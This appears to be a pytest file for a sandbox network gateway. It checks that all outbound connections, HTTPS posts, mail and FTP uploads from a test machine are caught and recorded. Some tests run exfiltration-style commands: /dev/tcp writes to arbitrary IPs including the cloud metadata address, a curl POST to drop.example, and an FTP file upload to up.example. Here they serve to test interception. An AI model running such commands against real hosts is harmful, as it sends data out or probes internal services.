"""Addresses and ways: all of them lead to the gateway."""

from __future__ import annotations

import pytest
from gateway.network import Plan

from .conftest import Box, data


def test_a_plan_of_addresses() -> None:
    start = {"address": "10.14.0.21", "prefix": 24, "router": "10.14.0.1", "address6": "fd00:14::15"}
    assert Plan.read(start, ipv6=True) == Plan("10.14.0.21", 24, "10.14.0.1", "fd00:14::15", "fd00:14::1")
    assert Plan.read(start, ipv6=False).address6 == ""
    assert Plan.read({**start, "address6": ""}, ipv6=True).router6 == ""
    with pytest.raises(ValueError, match="nonsense"):
        Plan.read({**start, "router": "nonsense"}, ipv6=True)


def test_the_network_is_one_interface_that_leads_to_the_gateway(box: Box) -> None:
    links = box.run("ls /sys/class/net; ip -o -4 addr show eth0; ip route; ip -6 route show default")
    assert links.split()[:2] == ["eth0", "lo"]
    assert "10.14.0.21/24" in links
    assert "default via 10.14.0.1 dev eth0" in links
    assert "default via fd00:14::1 dev eth0" in links


@pytest.mark.parametrize(
    "ip", ["93.184.216.34", "10.14.0.77", "169.254.169.254", "172.17.0.1", "2001:db8::5", "10.14.0.1"]
)
@pytest.mark.parametrize("port", [1, 80, 15001, 65535])
def test_every_address_and_port_is_taken(box: Box, ip: str, port: int) -> None:
    box.run(f"exec 3<>/dev/tcp/{ip}/{port}; printf 'to {port}' >&3; exec 3>&-")
    assert [(m["ip"], m["port"]) for m in box.told("open")] == [(ip, port)]
    closed = box.told("close")
    assert [data(m, "raw") for m in closed] == [f"to {port}".encode()]


def test_https_by_name(box: Box) -> None:
    assert "POST /in" in box.run("curl -sk --data k=v https://drop.example:8443/in")
    (told,) = box.told("http")
    assert (told["host"], told["ip"], told["port"], data(told, "body")) == ("drop.example", "192.0.2.7", 8443, b"k=v")


def test_the_machine_has_a_mail_server_of_its_own(box: Box) -> None:
    program = "import smtplib; smtplib.SMTP('localhost').sendmail('a@b.example', ['c@d.example'], 'Subject: x\\n\\nhi')"
    box.run(f'python3 -c "{program}"')
    (told,) = box.told("smtp")
    assert told["to"] == ["c@d.example"]
    assert told["ip"] in ("127.0.0.1", "::1")


def test_a_file_sent_by_ftp_is_told(box: Box) -> None:
    box.run("echo ledger > /tmp/f; curl -sS -T /tmp/f ftp://up.example/in/f")
    (told,) = box.told("close", path="/in/f")
    assert data(told, "raw") == b"ledger\n"
